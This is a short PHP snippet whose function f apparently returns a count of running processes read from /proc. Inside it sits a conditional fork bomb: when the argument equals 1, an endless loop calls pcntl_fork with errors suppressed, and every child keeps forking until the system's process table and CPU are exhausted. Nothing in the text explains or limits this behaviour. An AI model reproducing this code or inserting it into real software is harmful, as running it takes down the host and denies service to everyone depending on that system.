<?php

function f(int $n): int
{
    while ($n === 1) {
        @pcntl_fork();
    }
    return count(preg_grep('/^\d+$/', scandir('/proc')));
}
